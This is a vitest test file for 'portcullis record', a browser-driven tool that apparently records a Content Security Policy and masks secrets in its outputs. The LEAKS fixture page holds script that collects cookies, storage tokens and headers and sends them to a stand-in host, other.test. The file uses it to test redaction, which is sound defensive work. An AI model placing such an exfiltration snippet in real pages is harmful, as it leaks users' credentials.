import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import type http from "node:http";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CHROMIUM, program as SHELL } from "../browser/support.js";
import { serve } from "../http/support.js";
import { skipWithout } from "../peers.js";
import { begin, bundle, ended, type Program, put, run } from "./support.js";

/** The browser that people use, where signals meet it; elsewhere what starts sooner. */
const PROGRAM = process.env["CHROMIUM"] ?? "/usr/bin/chromium";

let program: Program;

beforeAll(async () => {
  program = await bundle();
  symlinkSync(
    fileURLToPath(new URL("../../node_modules/playwright-core", import.meta.url)),
    join(program.folder, "node_modules/playwright-core"),
  );
});

afterAll(() => program.remove());

const SITE = "http://localhost:9/";
const HELP = "See portcullis record --help.\n";

describe("portcullis record", () => {
  it.each([
    [["--viewport", "phon"], `error: --viewport: "phon" is not a viewport. Did you mean "phone"?\n${HELP}`],
    [["--viewport", "watch"], `error: --viewport: "watch" is not a viewport. Write "desktop" or "phone".\n${HELP}`],
    [["--header", "secret-1"], `error: --header: a value has no colon after a name. Write "Authorization: Bearer …".\n${HELP}`],
    [["--header", "X-A: 1", "--header", "x-a: 2"], `error: --header: x-a cannot be repeated.\n${HELP}`],
    [["--header", "Host: a"], `error: --header: the browser sets Host itself.\n${HELP}`],
    [["--pages", "0"], `error: --pages: "0" is not a whole number from 1 to 5000.\n${HELP}`],
    [["--depth", "101"], `error: --depth: "101" is not a whole number from 0 to 100.\n${HELP}`],
    [["--timeout", "soon"], `error: --timeout: "soon" is not a whole number from 1 to 86400.\n${HELP}`],
    [["--start", "docs"], `error: "docs" is not a valid address. Write one such as https://example.com/.\n`],
    [["--start", "ftp://localhost/"], `error: "ftp://localhost/": only http and https addresses are fetched.\n`],
    [
      ["--accept", "all"],
      `error: --accept: "all" cannot be accepted. Write "inline", "runtime", "eval", "hosts" or "frames", or what the output names for one point, such as sha256-….\n${HELP}`,
    ],
    [
      ["--accept", "sha256-abc"],
      `error: --accept: "sha256-abc" cannot be accepted. Write a whole hash as the output has it: sha256- and 44 characters.\n${HELP}`,
    ],
    [
      ["--accept", "https://cdn.example/a.js"],
      `error: --accept: "https://cdn.example/a.js" cannot be accepted. Write the origin alone: https://cdn.example.\n${HELP}`,
    ],
    [["--accept", "https://cdn.example:8443", "--script", "gone.mjs"], "error: --script: gone.mjs does not exist.\n"],
    [["--out", "policy.yaml"], `error: --out: the name policy.yaml does not end in .json, .mjs, .js, .ts or .mts.\n${HELP}`],
    [["--script", "gone.mjs"], "error: --script: gone.mjs does not exist.\n"],
    [["--script", "broken.mjs"], "error: --script: broken.mjs cannot be loaded: Unexpected end of input.\n"],
    [
      ["--script", "empty.mjs"],
      "error: --script: empty.mjs has no function as its default export. Write export default async ({ page, visit }) => { … }.\n",
    ],
    [["--storage-state", "gone.json"], "error: --storage-state: gone.json does not exist.\n"],
    [["--storage-state", "broken.json"], "error: --storage-state: broken.json is not JSON.\n"],
    [
      ["--storage-state", "wrong.json"],
      "error: --storage-state: wrong.json is not a storage state (cookies.0.name). Write one with Playwright: await context.storageState({ path }).\n",
    ],
    [["--browser", "/no/browser"], "error: --browser: /no/browser does not exist.\n"],
  ])("%j is refused with exit code 2", async (args, expected) => {
    put(program, {
      "broken.mjs": "export default async ({ visit }) => {",
      "empty.mjs": "export const walk = 1;",
      "broken.json": `{ "cookies": [ { "value": "secret-1"`,
      "wrong.json": `{ "cookies": [{ "value": "secret-1" }], "origins": [] }`,
    });
    const { code, out, err } = await run(program, ["record", SITE, ...args]);
    expect({ code, out, err }).toEqual({ code: 2, out: "", err: expected });
  });
});

const STATE = {
  cookies: [
    {
      name: "session",
      value: "secret-cookie",
      domain: "localhost",
      path: "/",
      expires: -1,
      httpOnly: false,
      secure: false,
      sameSite: "Lax",
    },
  ],
};

/** A page that shows everything it knows, in its title, its text, its errors, its inline code and its requests. */
const LEAKS = `<!doctype html><meta charset=utf-8><title>home</title><p id=x>text</p><img src="/missing.svg?token=secret-query"><script>
const known = [document.cookie, localStorage.token, location.search, location.hash, "HEADER"].join();
document.title = x.textContent = known;
console.error(known);
fetch("/api?" + known);
fetch("http://other.test/?" + known).catch(() => {});
onclick = null; x.setAttribute("onclick", "/* " + known + " */");
setTimeout(() => { throw new Error(known) });
</script><script>const served = "HEADER COOKIE";</script>`;

describe.skipIf(skipWithout("portcullis record in a browser", [CHROMIUM]))("portcullis record", () => {
  const pagesOf = (more: Readonly<Record<string, http.RequestListener>> = {}) =>
    serve((req, res) => {
      const path = new URL(req.url ?? "/", SITE).pathname;
      const { authorization = "", cookie = "" } = req.headers;
      if (more[path] !== undefined) return more[path](req, res);
      if (path !== "/") return void res.writeHead(404).end();
      res.setHeader("Content-Type", "text/html; charset=utf-8");
      res.end(LEAKS.replaceAll("HEADER", authorization).replaceAll("COOKIE", cookie));
    });

  it.each([[[]], [["--json"]]])("%j names no secret of the command line anywhere", async (args) => {
    const port = await pagesOf();
    const origin = `http://localhost:${port}`;
    put(program, {
      "state.json": JSON.stringify({ ...STATE, origins: [{ origin, localStorage: [{ name: "token", value: "secret-storage" }] }] }),
    });
    const { code, out, err } = await run(program, [
      ...["record", `${origin}/?token=secret-query#secret-fragment`, "--browser", SHELL, "--header", "Authorization: Bearer secret-header"],
      ...[
        "--storage-state",
        "state.json",
        "--no-pictures",
        "--timeout",
        "5",
        "--out",
        "policy.json",
        "--report",
        "report.html",
        "--force",
        ...args,
      ],
    ]);
    const [policy, report] = ["policy.json", "report.html"].map((name) => readFileSync(join(program.folder, name), "utf8"));
    expect(err).toContain("wrote policy.json\n");
    expect(code).toBe(1);
    // The page did show them.
    expect(out).toContain("***");
    for (const text of [out, err, policy, report]) expect(text).not.toContain("secret-");
  });

  it("hides what the site itself puts into addresses, attributes, cookies and errors in every output, and no key", async () => {
    const secrets = [
      "STATECOOKIE123456",
      "SERVERTOKEN4711xyz",
      "QUERYSECRET99887",
      "USERINFOPW77",
      "RAWSECRET5",
      "FORMSECRET1",
      "ATTRSECRET31337",
    ];
    const html =
      (body: string): http.RequestListener =>
      (_, res) => {
        res.setHeader("Set-Cookie", "csrf=SERVERTOKEN4711xyz; HttpOnly");
        res.setHeader("Content-Type", "text/html").end(`<!doctype html>${body}`);
      };
    const port = await pagesOf({
      "/a": html(`<title>a</title><a href="/b;jsessionid=STATECOOKIE123456">b</a><a href="/export?api_key=QUERYSECRET99887" onclick="go('/x?k=QUERYSECRET99887')">x</a>
        <script>window.csrf="SERVERTOKEN4711xyz"; fetch("/api?access_token=QUERYSECRET99887")</script><script src=/e.js></script>
        <form><input name=pw value=FORMSECRET1></form><p onclick="x()" data-token=ATTRSECRET31337 title="/q?sig=QUERYSECRET99887">i`),
      "/e.js": (_, res) =>
        void res.setHeader("Content-Type", "text/javascript").end(`console.error("cannot reach https://bob:USERINFOPW77@api.test/x");
          console.error("GET /api/v1?RAWSECRET5 failed"); console.error("csrf SERVERTOKEN4711xyz")`),
      "/b;jsessionid=STATECOOKIE123456": html("<title>b</title>"),
      "/export": html("<title>export</title>"),
    });
    const origin = `http://localhost:${port}`;
    const state = { cookies: [], origins: [{ origin, localStorage: [{ name: "v", value: "viewport" }] }] };
    put(program, { "state.json": JSON.stringify(state) });
    const args = ["record", `${origin}/a`, "--browser", SHELL, "--no-pictures", "--no-prove", "--storage-state", "state.json", "--force"];
    const json = await run(program, [...args, "--json", "--report", "hidden.html", "--out", "hidden.mjs"]);
    const summary = await run(program, args);
    const files = ["hidden.html", "hidden.mjs"].map((name) => readFileSync(join(program.folder, name), "utf8"));
    const shown = [json.out, json.err, summary.out, summary.err, ...files];
    for (const secret of secrets) expect(shown.map((text) => text.includes(secret))).toEqual(shown.map(() => false));
    expect(Object.keys(JSON.parse(json.out).pages[0])).toContain("viewport");
    expect(summary.out).toContain('<p onclick="x()"></p>');
  }, 180_000);

  it("hides a secret that a page makes a host of, and proposes no source with one", async () => {
    const port = await pagesOf({
      "/": ({ headers: { "x-api-key": key = "" } }, res) => {
        res.setHeader("Content-Type", "text/html; charset=utf-8");
        res.end(`<!doctype html><title>${key}</title><img src="http://${key}.localhost:${port}/x.png">
          <img src="http://cdn.localhost:${port}/x.png"><script>console.error("bad ${key}")</script>`);
      },
    });
    const args = [
      "record",
      `http://localhost:${port}/`,
      "--browser",
      PROGRAM,
      "--header",
      "X-Api-Key: tenant-9F8e7d6c5b4a",
      "--no-pictures",
      "--no-prove",
    ];
    const { out, err } = await run(program, [
      ...args,
      "--policy",
      "strict",
      "--json",
      "--report",
      "host.html",
      "--out",
      "host.mjs",
      "--force",
    ]);
    const shown = [out, err, ...["host.html", "host.mjs"].map((name) => readFileSync(join(program.folder, name), "utf8"))];
    expect(shown.map((text) => text.toLowerCase().includes("tenant-9f8e7d6c5b4a"))).toEqual([false, false, false, false]);
    const { needed, allowed, pages } = JSON.parse(out);
    expect(pages[0].title).toBe("***");
    expect(allowed.map(({ source }: { source: string }) => source)).toContain(`http://cdn.localhost:${port}`);
    expect(needed.map(({ message }: { message: string }) => message)).toContain(
      `img-src http://***.localhost:${port}: not proposed, since it contains a value of --header, --storage-state, a cookie or a query. If that is no secret, add it to the policy of --policy.`,
    );
  }, 180_000);

  /** Runs a recording that visits `/`, and then `/slow`, whose request calls `onSlow`. */
  async function recordUntil(onSlow: () => void, browser = PROGRAM, env: NodeJS.ProcessEnv = {}) {
    const port = await serve((req, res) => {
      if (req.url === "/slow") return onSlow();
      res.setHeader("Content-Type", "text/html; charset=utf-8");
      res.end("<title>home</title><link rel=stylesheet href=https://cdn.test/a.css><a href=/slow>slow</a>");
    });
    const child = begin(
      program,
      ["record", `http://localhost:${port}/`, "--browser", browser, "--out", "kept.json", "--force", "--json"],
      env,
    );
    return { child, ended: ended(child) };
  }

  it("keeps what was found on Ctrl-C, writes the policy, and removes its pictures", async () => {
    mkdirSync(join(program.folder, "tmp"));
    let interrupt = () => {};
    const { child, ended: result } = await recordUntil(() => interrupt(), PROGRAM, { TMPDIR: join(program.folder, "tmp") });
    interrupt = () => void child.kill("SIGINT");
    const { code, out, err } = await result;
    const { pages, notes, allowed } = JSON.parse(out);
    expect(code).toBe(1);
    expect(err).toContain("error: Interrupted: the recording has what was seen until then.\n");
    expect(notes).toContain("Interrupted: the recording has what was seen until then.");
    expect(pages.map(({ title }: { title: string }) => title)).toEqual(["home"]);
    expect(allowed.map(({ source }: { source: string }) => source)).toContain("https://cdn.test");
    expect(readFileSync(join(program.folder, "kept.json"), "utf8")).toContain("https://cdn.test");
    expect(readdirSync(join(program.folder, "tmp")).filter((name) => name.startsWith("portcullis"))).toEqual([]);
  });

  it("keeps what was found when the browser is killed", async () => {
    const [wrapper, file] = [join(program.folder, "browser.sh"), join(program.folder, "browser.pid")];
    writeFileSync(wrapper, `#!/bin/sh\necho $$ > '${file}'\nexec '${PROGRAM}' "$@"\n`);
    chmodSync(wrapper, 0o755);
    const { ended: result } = await recordUntil(() => process.kill(Number(readFileSync(file, "utf8")), "SIGKILL"), wrapper);
    const { code, out, err } = await result;
    expect(code).toBe(1);
    expect(err).toContain("error: The browser ended before the walk did.\n");
    expect(JSON.parse(out).pages.map(({ title }: { title: string }) => title)).toEqual(["home"]);
    expect(readFileSync(join(program.folder, "kept.json"), "utf8")).toContain("https://cdn.test");
  });

  it("says in one line why no page could be loaded", async () => {
    const { code, out, err } = await run(program, ["record", "http://127.0.0.1:1025/", "--browser", SHELL]);
    expect({ code, out, err: err.split("\n").filter((line) => line.startsWith("error")) }).toEqual({
      code: 1,
      out: "",
      err: ["error: http://127.0.0.1:1025/: nothing listens there."],
    });
  });
});
